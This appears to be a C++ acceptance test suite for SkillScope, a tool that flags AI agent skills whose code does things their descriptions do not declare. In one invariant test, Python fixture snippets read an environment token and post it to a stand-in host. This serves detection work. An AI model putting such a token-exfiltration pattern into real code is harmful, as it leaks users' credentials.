// Copyright 2026 The SkillScope Authors
//
// Licensed under the Apache License, Version 2.0 (the "License");
// you may not use this file except in compliance with the License.
// You may obtain a copy of the License at
//
//     http://www.apache.org/licenses/LICENSE-2.0
//
// Unless required by applicable law or agreed to in writing, software
// distributed under the License is distributed on an "AS IS" BASIS,
// WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
// See the License for the specific language governing permissions and
// limitations under the License.

// End-to-end acceptance suite. Each test covers one release criterion at
// its stated tolerance and prints one pass line; run the whole binary (or
// ctest) for the release gate. The suite needs no network: the model
// backend is exercised through an in-process stub.

#include <algorithm>
#include <chrono>
#include <cmath>
#include <filesystem>
#include <fstream>
#include <random>
#include <sstream>

#include "gtest/gtest.h"
#include "skillscope/corpus.hpp"
#include "skillscope/eval.hpp"
#include "skillscope/gateway.hpp"
#include "skillscope/pipeline.hpp"
#include "skillscope/synth.hpp"

namespace skillscope {
namespace {

namespace fs = std::filesystem;
using Clock = std::chrono::steady_clock;

double seconds_since(Clock::time_point start) {
  return std::chrono::duration<double>(Clock::now() - start).count();
}

void pass(const std::string& line) { std::cout << "ACCEPTANCE " << line << ": PASS\n"; }

std::string fixture(const std::string& rel) {
  return std::string(SKILLSCOPE_FIXTURES_DIR) + "/" + rel;
}

std::string read_file(const std::string& path) {
  std::ifstream in(path, std::ios::binary);
  std::ostringstream buf;
  buf << in.rdbuf();
  return buf.str();
}

// C1: the motivating fixture (declared read-and-analyze; code reads a
// credential and posts it out) classifies Inconsistent with a SECRET_ACCESS
// undeclared-behavior finding and a SecretToExternal undeclared flow,
// inside one second.
TEST(Acceptance, C1_MotivatingExampleReproduction) {
  auto start = Clock::now();
  Skill skill = discover_skill(fixture("checkroot/motivating-example"));
  ASSERT_EQ(skill.description.frontmatter.at("description"),
            "Read target files and run a fixed analysis workflow");

  SkillResult result = run_rule_engine(skill, default_taxonomy(), default_lexicon());
  ASSERT_TRUE(result.spg.has_value());

  EXPECT_EQ(result.check.verdict.cls, VerdictClass::Inconsistent);

  int secret_c1 = 0;
  for (std::size_t n = 0; n < result.check.report.node_results.size(); ++n) {
    const NodeFinding& finding = result.check.report.node_results[n];
    if (!finding.covered &&
        result.spg->nodes[n].category == CategoryId::SecretAccess) {
      ++secret_c1;
    }
  }
  EXPECT_GE(secret_c1, 1);

  int secret_to_external = 0;
  for (const FlowFinding& finding : result.check.report.flow_results) {
    if (finding.flagged() && finding.boundary_kind == BoundaryKind::SecretToExternal) {
      ++secret_to_external;
    }
  }
  EXPECT_GE(secret_to_external, 1);

  double elapsed = seconds_since(start);
  EXPECT_LT(elapsed, 1.0);
  pass("C1 motivating-example -> Inconsistent with C1(SECRET_ACCESS) + C2(SecretToExternal)");
}

// C2: the report-writer fixture (declared read + summary report; code
// writes output/report.json) is coarser description, never inconsistency.
TEST(Acceptance, C2_CoarserDescriptionReproduction) {
  auto start = Clock::now();
  Skill skill = discover_skill(fixture("checkroot/report-writer"));
  SkillResult result = run_rule_engine(skill, default_taxonomy(), default_lexicon());
  EXPECT_EQ(result.check.verdict.cls, VerdictClass::CoarserDescription);
  EXPECT_FALSE(result.check.report.inconsistency);
  EXPECT_TRUE(result.check.report.coarser_description);
  EXPECT_LT(seconds_since(start), 1.0);
  pass("C2 report-writer -> CoarserDescription, never Inconsistent");
}

// C3: discover_edges_bfs equals the brute-force transitive closure
// restricted to security-node pairs, on 1,000 random small IRs and on the
// IRs of every committed fixture file, within 60 seconds.
TEST(Acceptance, C3_SpgOracleEquivalence) {
  auto start = Clock::now();

  auto closure_oracle = [](const FileIR& ir) {
    std::size_t n = ir.nodes.size();
    std::vector<std::vector<bool>> reach(n, std::vector<bool>(n, false));
    for (const IrEdge& e : ir.edges) {
      if (e.kind == IrEdgeKind::Ast) continue;
      reach[static_cast<std::size_t>(e.from)][static_cast<std::size_t>(e.to)] = true;
    }
    for (std::size_t k = 0; k < n; ++k) {
      for (std::size_t i = 0; i < n; ++i) {
        if (!reach[i][k]) continue;
        for (std::size_t j = 0; j < n; ++j) {
          if (reach[k][j]) reach[i][j] = true;
        }
      }
    }
    return reach;
  };

  auto check_ir = [&](const FileIR& ir, const std::vector<SpgNode>& nodes,
                      const std::string& what) {
    auto reach = closure_oracle(ir);
    auto got = discover_edges_bfs(ir, nodes);
    std::set<std::pair<std::size_t, std::size_t>> got_set(got.begin(), got.end());
    std::set<std::pair<std::size_t, std::size_t>> want;
    for (std::size_t u = 0; u < nodes.size(); ++u) {
      for (std::size_t v = 0; v < nodes.size(); ++v) {
        if (u != v && reach[static_cast<std::size_t>(nodes[u].ir_node)]
                           [static_cast<std::size_t>(nodes[v].ir_node)]) {
          want.insert({u, v});
        }
      }
    }
    ASSERT_EQ(got_set, want) << what;
  };

  // Randomized IRs.
  std::mt19937_64 rng(0xacce97);
  for (int round = 0; round < 1000; ++round) {
    int n = 2 + static_cast<int>(rng() % 49);
    FileIR ir;
    ir.file = "r.py";
    ir.language = Language::Python;
    for (int i = 0; i < n; ++i) {
      IrNode node;
      node.id = i;
      node.kind = IrKind::Statement;
      ir.nodes.push_back(node);
    }
    int edges = static_cast<int>(rng() % (3 * static_cast<unsigned>(n)));
    for (int e = 0; e < edges; ++e) {
      IrEdgeKind kind = rng() % 4 == 0   ? IrEdgeKind::Ast
                        : rng() % 2 == 0 ? IrEdgeKind::Cfg
                                         : IrEdgeKind::Dfg;
      ir.edges.push_back({static_cast<int>(rng() % static_cast<unsigned>(n)),
                          static_cast<int>(rng() % static_cast<unsigned>(n)), kind});
    }
    std::vector<SpgNode> picked;
    std::set<int> used;
    int want_nodes = 2 + static_cast<int>(rng() % 5);
    while (static_cast<int>(picked.size()) < want_nodes &&
           used.size() < static_cast<std::size_t>(n)) {
      int id = static_cast<int>(rng() % static_cast<unsigned>(n));
      if (!used.insert(id).second) continue;
      SpgNode node;
      node.ir_node = id;
      picked.push_back(node);
    }
    check_ir(ir, picked, "random round " + std::to_string(round));
  }

  // Every committed fixture file.
  for (const auto& entry :
       fs::recursive_directory_iterator(std::string(SKILLSCOPE_FIXTURES_DIR))) {
    if (!entry.is_regular_file()) continue;
    Language lang = language_from_path(entry.path());
    if (lang != Language::Python && lang != Language::JavaScript &&
        lang != Language::TypeScript) {
      continue;
    }
    ImplementationFile file;
    file.path = entry.path().filename().generic_string();
    file.language = lang;
    file.content = read_file(entry.path().string());
    FileIR ir = analyze_file(file);
    std::vector<SpgNode> nodes = locate_security_nodes(ir, default_taxonomy());
    check_ir(ir, nodes, entry.path().string());
  }

  double elapsed = seconds_since(start);
  EXPECT_LT(elapsed, 60.0);
  pass("C3 BFS edge discovery == transitive-closure oracle (1000 random IRs + fixtures)");
}

// C4: the three-file fixture with six planted sites serializes
// byte-identically to the committed golden document, including the
// hand-derived CrossCall and CrossPath edges.
TEST(Acceptance, C4_GoldenGraphFixture) {
  Skill skill = discover_skill(fixture("golden-skill"));
  Spg spg = build_skill_spg(skill, default_taxonomy());
  ASSERT_EQ(spg.nodes.size(), 6u);

  std::string produced = serialize_spg(spg);
  std::string golden =
      read_file(std::string(SKILLSCOPE_GOLDEN_DIR) + "/golden_skill_graph.json");
  ASSERT_FALSE(golden.empty());
  EXPECT_EQ(produced, golden);

  int cross_call = 0, cross_path = 0;
  for (const SpgEdge& edge : spg.edges) {
    if (edge.kind == SpgEdgeKind::CrossCall) ++cross_call;
    if (edge.kind == SpgEdgeKind::CrossPath) ++cross_path;
  }
  EXPECT_EQ(cross_call, 2);
  EXPECT_EQ(cross_path, 1);
  pass("C4 golden 3-file skill -> byte-identical code_graph_json with cross edges");
}

// C5: precision/recall/F1 arithmetic at 0.1% rounding for the two reported
// count triples.
TEST(Acceptance, C5_MetricArithmetic) {
  auto pct = [](double ratio) { return std::round(ratio * 1000.0) / 10.0; };

  Metrics full = metrics_from_counts(413, 74, 15);
  EXPECT_DOUBLE_EQ(pct(full.precision), 84.8);
  EXPECT_DOUBLE_EQ(pct(full.recall), 96.5);
  EXPECT_DOUBLE_EQ(pct(full.f1), 90.3);

  Metrics subset = metrics_from_counts(36, 5, 2);
  EXPECT_DOUBLE_EQ(pct(subset.precision), 87.8);
  EXPECT_DOUBLE_EQ(pct(subset.recall), 94.7);
  EXPECT_DOUBLE_EQ(pct(subset.f1), 91.1);
  pass("C5 compute_metrics reproduces 84.8/96.5/90.3 and 87.8/94.7/91.1 at 0.1%");
}

// C6: the 42-skill synthetic corpus (seed 7, full pattern coverage) scored
// by the rule engine reaches precision = recall = 1.0 with zero
// coarser<->inconsistent confusion, within 30 seconds.
TEST(Acceptance, C6_SyntheticClosedLoop) {
  auto start = Clock::now();
  fs::path corpus = fs::temp_directory_path() / "skillscope-acceptance-corpus";
  fs::remove_all(corpus);

  std::vector<GroundTruthLabel> labels =
      generate_synthetic_corpus(7, CorpusSpec::full_coverage(), corpus);
  ASSERT_EQ(labels.size(), 42u);

  std::map<std::string, VerdictClass> predictions;
  for (const GroundTruthLabel& label : labels) {
    Skill skill = discover_skill(corpus / label.skill_id);
    SkillResult result = run_rule_engine(skill, default_taxonomy(), default_lexicon());
    predictions[label.skill_id] = result.check.verdict.cls;
  }

  EvalResult result = compute_metrics(predictions, labels);
  EXPECT_DOUBLE_EQ(result.metrics.precision, 1.0);
  EXPECT_DOUBLE_EQ(result.metrics.recall, 1.0);
  // Zero off-diagonal mass in the coarser<->inconsistent cells.
  EXPECT_EQ(result.confusion.cells[0][1], 0);
  EXPECT_EQ(result.confusion.cells[1][0], 0);
  EXPECT_EQ(result.confusion.total(), 42);

  double elapsed = seconds_since(start);
  EXPECT_LT(elapsed, 30.0);
  fs::remove_all(corpus);
  pass("C6 seed-7 synthetic corpus: precision = recall = 1.0, diagonal confusion");
}

// C7: the invariant suites, each with at least 500 random cases.
TEST(Acceptance, C7_InvariantSuites) {
  // Normalization idempotence (1000 cases).
  {
    std::mt19937_64 r(101);
    const std::vector<std::string> pool = {"skills", "a", "b", ".claude", "Skills",
                                           "deep",   "x", "skills.md"};
    for (int i = 0; i < 1000; ++i) {
      std::string path;
      int segs = static_cast<int>(r() % 7);
      for (int s = 0; s < segs; ++s) {
        path += (s == 0 && r() % 2 == 0 ? "" : "/") + pool[r() % pool.size()];
      }
      std::string once = normalize_subpath(path);
      ASSERT_EQ(normalize_subpath(once), once) << path;
    }
  }

  // Dedup permutation invariance (500 cases).
  {
    std::mt19937_64 r(202);
    std::vector<ManifestEntry> manifest;
    for (int i = 0; i < 30; ++i) {
      manifest.push_back({"https://github.com/o" + std::to_string(i % 5) +
                              "/r/tree/m/skills/s" + std::to_string(i % 11),
                          "src" + std::to_string(i % 3)});
    }
    DedupResult base = dedup(manifest);
    for (int round = 0; round < 500; ++round) {
      std::shuffle(manifest.begin(), manifest.end(), r);
      DedupResult shuffled = dedup(manifest);
      ASSERT_EQ(shuffled.groups.size(), base.groups.size());
      for (std::size_t g = 0; g < base.groups.size(); ++g) {
        ASSERT_EQ(shuffled.groups[g].key, base.groups[g].key);
        ASSERT_EQ(shuffled.groups[g].members, base.groups[g].members);
      }
    }
  }

  // Declared-set enlargement monotonicity (500 cases).
  {
    std::mt19937_64 r(303);
    const std::vector<CategoryId> cats = {
        CategoryId::FileRead,      CategoryId::FileWrite,  CategoryId::SystemCommand,
        CategoryId::NetworkAccess, CategoryId::ExternalApi, CategoryId::SecretAccess};
    const std::vector<std::string> ops = {"os.getenv('API_KEY')", "open('in/a.txt')",
                                          "requests.post('https://h/x')",
                                          "subprocess.run(c)", "f.write(d)"};
    for (int round = 0; round < 500; ++round) {
      SpgNode node;
      node.id = 0;
      node.category = cats[r() % cats.size()];
      node.candidates = {node.category};
      node.operation = ops[r() % ops.size()];
      DeclaredSemantics small;
      for (CategoryId c : cats) {
        if (r() % 3 == 0) small.labels.push_back({c, std::nullopt});
      }
      DeclaredSemantics large = small;
      for (CategoryId c : cats) {
        DeclaredLabel extra{c, std::nullopt};
        if (r() % 2 == 0 &&
            std::find(large.labels.begin(), large.labels.end(), extra) ==
                large.labels.end()) {
          large.labels.push_back(extra);
        }
      }
      NodeFinding before = check_node_c1(node, small, default_taxonomy());
      NodeFinding after = check_node_c1(node, large, default_taxonomy());
      if (before.covered) ASSERT_TRUE(after.covered) << "round " << round;
    }
  }

  // Serialization round-trip identity (500 cases).
  {
    std::mt19937_64 r(404);
    const std::vector<CategoryId> cats = {CategoryId::FileRead, CategoryId::SecretAccess,
                                          CategoryId::NetworkAccess};
    for (int round = 0; round < 500; ++round) {
      Spg spg;
      spg.skill_id = "s" + std::to_string(round);
      int n = static_cast<int>(r() % 6);
      for (int i = 0; i < n; ++i) {
        SpgNode node;
        node.id = i;
        node.file = r() % 2 ? "a.py" : "b.js";
        node.line = 1 + static_cast<int>(r() % 30);
        node.col = 1 + static_cast<int>(r() % 10);
        node.category = cats[r() % cats.size()];
        node.candidates = {node.category};
        node.pattern = "p(";
        node.operation = "op" + std::to_string(r() % 5) + "('x')";
        spg.nodes.push_back(node);
      }
      for (int e = 0; e + 1 < n; ++e) {
        int from = static_cast<int>(r() % static_cast<unsigned>(n));
        int to = static_cast<int>(r() % static_cast<unsigned>(n));
        if (from == to) continue;
        bool same = spg.nodes[static_cast<std::size_t>(from)].file ==
                    spg.nodes[static_cast<std::size_t>(to)].file;
        spg.edges.push_back(
            {from, to, same ? SpgEdgeKind::IntraFlow : SpgEdgeKind::CrossImport});
      }
      Spg canon = deserialize_spg(serialize_spg(spg));
      Spg again = deserialize_spg(serialize_spg(canon));
      ASSERT_TRUE(again.structurally_equal(canon)) << "round " << round;
    }
  }

  // Deterministic rebuild under file-order permutation (500 cases).
  {
    std::mt19937_64 r(505);
    Skill skill;
    skill.id = "perm";
    skill.description = parse_skill_md("x");
    skill.files = {
        {"a.py", Language::Python,
         "from helper import send\n\ndef run():\n    send(os.getenv('T'))\n"},
        {"helper.py", Language::Python,
         "import requests\n\ndef send(t):\n    requests.post('https://h/x', "
         "headers={'a': t})\n"},
        {"util.py", Language::Python, "open('data/in.txt').read()\n"},
    };
    std::string golden = serialize_spg(build_skill_spg(skill, default_taxonomy()));
    for (int round = 0; round < 500; ++round) {
      Skill shuffled = skill;
      std::shuffle(shuffled.files.begin(), shuffled.files.end(), r);
      ASSERT_EQ(serialize_spg(build_skill_spg(shuffled, default_taxonomy())), golden)
          << "round " << round;
    }
  }

  pass("C7 invariant suites (idempotence, permutation, monotonicity, round-trip, rebuild)");
}

// C8: skills with no analyzable supported file and model replies carrying
// the uncertain status both map to Verdict Uncertain; the whole path runs
// without network access.
TEST(Acceptance, C8_UncertainPath) {
  Skill go_only = discover_skill(fixture("uncertain-root/go-only-skill"));
  SkillResult result = run_rule_engine(go_only, default_taxonomy(), default_lexicon());
  EXPECT_FALSE(result.spg.has_value());
  EXPECT_EQ(result.check.verdict.cls, VerdictClass::Uncertain);
  EXPECT_EQ(result.check.report.evidence_validation,
            EvidenceValidation::GraphExtractionUncertain);

  class UncertainStub : public ChatTransport {
   public:
    std::string complete(const GatewayConfig&, const std::string&) override {
      return R"({
        "evidence_validation": "graph_extraction_uncertain",
        "declared": {"labels": [], "flows": [], "evidence": {}},
        "node_results": [],
        "flow_results": [],
        "summary": {"relevant_nodes": 0, "relevant_flows": 0, "flagged": 0},
        "inconsistency": false,
        "coarser_description": false,
        "cause_summary": "evidence insufficient"
      })";
    }
  };

  GatewayConfig config;
  config.endpoint = "http://stub.invalid/v1/chat/completions";
  config.model = "stub";
  ModelGateway gateway(config, std::make_shared<UncertainStub>());

  Skill skill = discover_skill(fixture("golden-skill"));
  Spg spg = build_skill_spg(skill, default_taxonomy());
  ClassifyResult model_result = gateway.check_with_model(
      default_taxonomy(), skill.description.raw, serialize_spg(spg));
  EXPECT_EQ(model_result.verdict.cls, VerdictClass::Uncertain);
  EXPECT_EQ(model_result.report.evidence_validation,
            EvidenceValidation::GraphExtractionUncertain);
  pass("C8 Go-only skill and uncertain model status both yield Verdict Uncertain");
}

}  // namespace
}  // namespace skillscope
